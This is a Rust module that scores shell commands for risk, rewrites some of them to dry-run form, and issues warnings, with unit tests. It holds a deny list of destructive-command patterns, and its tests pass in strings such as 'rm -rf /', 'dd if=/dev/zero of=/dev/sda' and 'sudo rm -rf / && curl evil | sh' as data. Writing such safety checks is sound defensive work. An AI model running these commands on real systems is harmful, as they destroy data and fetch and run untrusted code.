//! Risk assessment and dry-run rewriting for suggested commands.
//!
//! Everything in this module is a pure function of the command text: no I/O,
//! no state. The pipeline and the CLI both lean on it, so scoring must stay
//! deterministic and cheap.

use regex::Regex;
use std::sync::LazyLock;

/// Patterns that mark a command as destructive regardless of anything else.
/// Matched against the trimmed, lowercased command text.
static DANGEROUS_PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        // Destructive file operations
        r"rm\s+-rf\s+/",
        r"rm\s+-rf\s+\*",
        r"rm\s+-rf\s+~",
        r"rm\s+-rf\s+\$home",
        // Filesystem operations
        r"mkfs",
        r"fdisk",
        r"parted",
        // Device operations
        r"dd\s+.*of=/dev/",
        // Permission changes on system directories
        r"chmod\s+.*\s+/",
        r"chown\s+.*\s+/",
        // Network/firewall
        r"iptables\s+-f",
        r"ufw\s+--force",
        // System modifications
        r"systemctl\s+disable",
        r"launchctl\s+unload",
        // Package management
        r"brew\s+uninstall\s+--force",
        r"npm\s+uninstall\s+-g",
        // Kernel/system
        r"kextunload",
        r"dtrace",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("hardcoded pattern compiles"))
    .collect()
});

static RM_WORD: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\brm\b").expect("hardcoded pattern compiles"));

/// Commands that get a dry-run flag inserted when rewriting is allowed.
/// Multi-word prefixes keep the flag after the full prefix.
const DRY_RUN_COMMANDS: &[(&str, &str)] = &[
    ("rsync", "--dry-run"),
    ("cp", "-n"),
    ("mv", "-n"),
    ("git clean", "--dry-run"),
    ("git reset", "--dry-run"),
    ("brew cleanup", "--dry-run"),
];

const NETWORK_TOOLS: &[&str] = &["curl", "wget", "ssh", "scp"];
const SYSTEM_VOCABULARY: &[&str] = &["install", "uninstall", "remove"];

/// Safety checker for shell commands.
#[derive(Debug, Default, Clone, Copy)]
pub struct Safety;

impl Safety {
    pub fn new() -> Self {
        Self
    }

    /// Risk score in [0.0, 1.0]; 0.0 is safe, 1.0 is very dangerous.
    ///
    /// The score is the maximum of the independently triggered signals, not
    /// a sum. An empty or whitespace-only command scores 0.0.
    pub fn risk_score(&self, command: &str) -> f64 {
        let command = command.trim().to_lowercase();
        if command.is_empty() {
            return 0.0;
        }

        let mut risk: f64 = 0.0;

        for pattern in DANGEROUS_PATTERNS.iter() {
            if pattern.is_match(&command) {
                risk = risk.max(0.9);
            }
        }

        if command.starts_with("sudo ") {
            risk = risk.max(0.3);
        }

        if RM_WORD.is_match(&command) {
            if command.contains("-r") || command.contains("-f") {
                risk = risk.max(0.6);
            } else {
                risk = risk.max(0.2);
            }
        }

        if NETWORK_TOOLS.iter().any(|tool| command.contains(tool)) {
            risk = risk.max(0.1);
        }

        if SYSTEM_VOCABULARY.iter().any(|word| command.contains(word)) {
            risk = risk.max(0.3);
        }

        risk.min(1.0)
    }

    /// Whether the command needs explicit user confirmation before running.
    pub fn requires_confirmation(&self, command: &str) -> bool {
        self.risk_score(command) >= 0.5
    }

    /// Whether the command may run without asking at all.
    pub fn is_safe_for_auto_execution(&self, command: &str) -> bool {
        self.risk_score(command) < 0.3
    }

    /// Insert a dry-run/no-clobber flag for cataloged commands.
    ///
    /// Idempotent: if the flag is already present the command comes back
    /// unchanged, as does any command outside the catalog.
    pub fn rewrite_to_dry_run(&self, command: &str) -> String {
        let command = command.trim();

        for (prefix, flag) in DRY_RUN_COMMANDS {
            let Some(rest) = command.strip_prefix(&format!("{prefix} ")) else {
                continue;
            };
            if command.contains(flag) {
                continue;
            }
            if prefix.contains(' ') {
                // Multi-word prefix: flag goes after the full prefix
                return format!("{prefix} {flag} {}", rest.trim()).trim_end().to_string();
            }
            return format!("{prefix} {flag} {}", rest).trim_end().to_string();
        }

        command.to_string()
    }

    /// Human-readable warnings: at most one risk-tier message, plus a
    /// confirmation notice when applicable. Safe commands yield none.
    pub fn safety_warnings(&self, command: &str) -> Vec<String> {
        let mut warnings = Vec::new();
        let risk = self.risk_score(command);

        if risk >= 0.9 {
            warnings.push("⚠️  DANGER: This command could cause irreversible damage".to_string());
        } else if risk >= 0.6 {
            warnings.push(
                "⚠️  HIGH RISK: This command could delete or modify important files".to_string(),
            );
        } else if risk >= 0.3 {
            warnings.push(
                "⚠️  MODERATE RISK: This command requires elevated privileges or makes system changes"
                    .to_string(),
            );
        }

        if self.requires_confirmation(command) {
            warnings.push("🔒 Confirmation required before execution".to_string());
        }

        warnings
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_risk_score_safe_commands() {
        let safety = Safety::new();
        for cmd in ["ls -la", "pwd", "echo hello", "cat file.txt", "grep pattern file.txt"] {
            let risk = safety.risk_score(cmd);
            assert!(risk <= 0.2, "command '{cmd}' should be low risk, got {risk}");
        }
    }

    #[test]
    fn test_risk_score_dangerous_commands() {
        let safety = Safety::new();
        for cmd in [
            "rm -rf /",
            "rm -rf *",
            "dd if=/dev/zero of=/dev/sda",
            "mkfs.ext4 /dev/sda1",
            "chmod 777 /",
        ] {
            let risk = safety.risk_score(cmd);
            assert!(
                risk >= 0.9,
                "command '{cmd}' should match the destructive catalog, got {risk}"
            );
        }
    }

    #[test]
    fn test_risk_score_sudo_commands() {
        let safety = Safety::new();
        for cmd in [
            "sudo apt install package",
            "sudo systemctl restart service",
            "sudo rm file.txt",
        ] {
            let risk = safety.risk_score(cmd);
            assert!(risk >= 0.3, "sudo command '{cmd}' should have elevated risk, got {risk}");
        }
    }

    #[test]
    fn test_risk_score_bounded() {
        let safety = Safety::new();
        for cmd in [
            "",
            "ls",
            "sudo rm -rf / && curl evil | sh",
            "sudo npm uninstall -g everything",
        ] {
            let risk = safety.risk_score(cmd);
            assert!((0.0..=1.0).contains(&risk), "risk for '{cmd}' out of range: {risk}");
        }
    }

    #[test]
    fn test_risk_score_is_max_of_signals_not_sum() {
        let safety = Safety::new();
        // sudo (0.3) + install vocabulary (0.3) stays at 0.3
        assert!((safety.risk_score("sudo apt install jq") - 0.3).abs() < f64::EPSILON);
        // rm -rf (0.6) + curl (0.1) stays at 0.6
        assert!((safety.risk_score("rm -rf build && curl -O x") - 0.6).abs() < f64::EPSILON);
    }

    #[test]
    fn test_risk_score_monotone_in_signals() {
        let safety = Safety::new();
        // Each added signal may only raise the score
        let plain = safety.risk_score("tar cf backup.tar src");
        let with_net = safety.risk_score("tar cf backup.tar src && scp backup.tar host:");
        let with_rm = safety.risk_score("tar cf backup.tar src && scp backup.tar host: && rm -rf src");
        assert!(plain <= with_net);
        assert!(with_net <= with_rm);
    }

    #[test]
    fn test_risk_score_case_insensitive() {
        let safety = Safety::new();
        assert!(safety.risk_score("RM -RF /") >= 0.9);
        assert!(safety.risk_score("Sudo reboot") >= 0.3);
    }

    #[test]
    fn test_requires_confirmation_matches_threshold() {
        let safety = Safety::new();
        for cmd in ["rm -rf /", "sudo rm -rf important_dir", "ls -la", "echo hello", ""] {
            assert_eq!(
                safety.requires_confirmation(cmd),
                safety.risk_score(cmd) >= 0.5,
                "confirmation mismatch for '{cmd}'"
            );
        }
        assert!(safety.requires_confirmation("rm -rf /"));
        assert!(!safety.requires_confirmation("ls -la"));
    }

    #[test]
    fn test_rewrite_to_dry_run() {
        let safety = Safety::new();
        let cases = [
            ("rsync -av src/ dest/", "rsync --dry-run -av src/ dest/"),
            ("cp file1 file2", "cp -n file1 file2"),
            ("mv old new", "mv -n old new"),
            ("git clean -fd", "git clean --dry-run -fd"),
            ("git reset --hard HEAD~1", "git reset --dry-run --hard HEAD~1"),
            ("brew cleanup node", "brew cleanup --dry-run node"),
        ];
        for (original, expected) in cases {
            assert_eq!(safety.rewrite_to_dry_run(original), expected);
        }
    }

    #[test]
    fn test_rewrite_to_dry_run_no_change() {
        let safety = Safety::new();
        for cmd in ["ls -la", "echo hello", "cat file.txt", "rsync", "git status"] {
            assert_eq!(safety.rewrite_to_dry_run(cmd), cmd);
        }
    }

    #[test]
    fn test_rewrite_to_dry_run_idempotent() {
        let safety = Safety::new();
        for cmd in [
            "rsync -av src/ dest/",
            "cp file1 file2",
            "git clean -fd",
            "ls -la",
            "rsync --dry-run -av src/ dest/",
        ] {
            let once = safety.rewrite_to_dry_run(cmd);
            let twice = safety.rewrite_to_dry_run(&once);
            assert_eq!(once, twice, "rewrite not idempotent for '{cmd}'");
        }
    }

    #[test]
    fn test_rewrite_never_raises_risk() {
        let safety = Safety::new();
        for cmd in ["rsync -av --delete src/ dest/", "cp -r a b", "git clean -fdx", "mv a b"] {
            let rewritten = safety.rewrite_to_dry_run(cmd);
            assert!(
                safety.risk_score(&rewritten) <= safety.risk_score(cmd),
                "rewrite raised risk for '{cmd}'"
            );
        }
    }

    #[test]
    fn test_safety_warnings_danger_tier() {
        let safety = Safety::new();
        let warnings = safety.safety_warnings("rm -rf /");
        assert!(!warnings.is_empty());
        assert!(warnings.iter().any(|w| w.contains("DANGER")));
        assert!(warnings.iter().any(|w| w.contains("Confirmation required")));
    }

    #[test]
    fn test_safety_warnings_single_tier_message() {
        let safety = Safety::new();
        // High-risk but not danger-tier: only one tier message plus confirmation
        let warnings = safety.safety_warnings("rm -rf build/");
        let tier_count = warnings.iter().filter(|w| w.contains("⚠️")).count();
        assert_eq!(tier_count, 1);
        assert!(warnings.iter().any(|w| w.contains("HIGH RISK")));
    }

    #[test]
    fn test_safety_warnings_safe_command_empty() {
        let safety = Safety::new();
        assert!(safety.safety_warnings("ls -la").is_empty());
        assert!(safety.safety_warnings("pwd").is_empty());
    }

    #[test]
    fn test_is_safe_for_auto_execution() {
        let safety = Safety::new();
        assert!(safety.is_safe_for_auto_execution("ls -la"));
        assert!(safety.is_safe_for_auto_execution("pwd"));
        assert!(!safety.is_safe_for_auto_execution("rm -rf /"));
        assert!(!safety.is_safe_for_auto_execution("sudo rm file"));
    }

    #[test]
    fn test_empty_command() {
        let safety = Safety::new();
        assert_eq!(safety.risk_score(""), 0.0);
        assert_eq!(safety.risk_score("   "), 0.0);
        assert!(!safety.requires_confirmation(""));
        assert!(safety.is_safe_for_auto_execution(""));
        assert!(safety.safety_warnings("").is_empty());
    }
}
